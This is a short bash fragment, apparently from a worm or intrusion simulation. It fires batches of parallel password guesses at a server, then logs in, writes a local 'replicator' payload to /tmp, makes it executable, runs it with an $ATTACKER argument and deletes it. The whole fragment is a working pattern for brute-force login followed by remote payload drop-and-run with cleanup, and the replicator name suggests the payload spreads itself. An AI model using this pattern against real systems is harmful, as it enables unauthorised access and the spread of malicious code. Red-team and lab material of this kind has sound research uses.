guess() { on_server "$1" true; }
for ((i = 0; i < GUESSES; i += 5)); do
    for ((j = 0; j < 5; j++)); do guess "wrong-$i-$j" || true & done
    wait
done
on_server "$PASSWORD" "cat >/tmp/update && chmod +x /tmp/update && /tmp/update $FAMILY 20 $ATTACKER && rm /tmp/update" \
    </run/payload/replicator
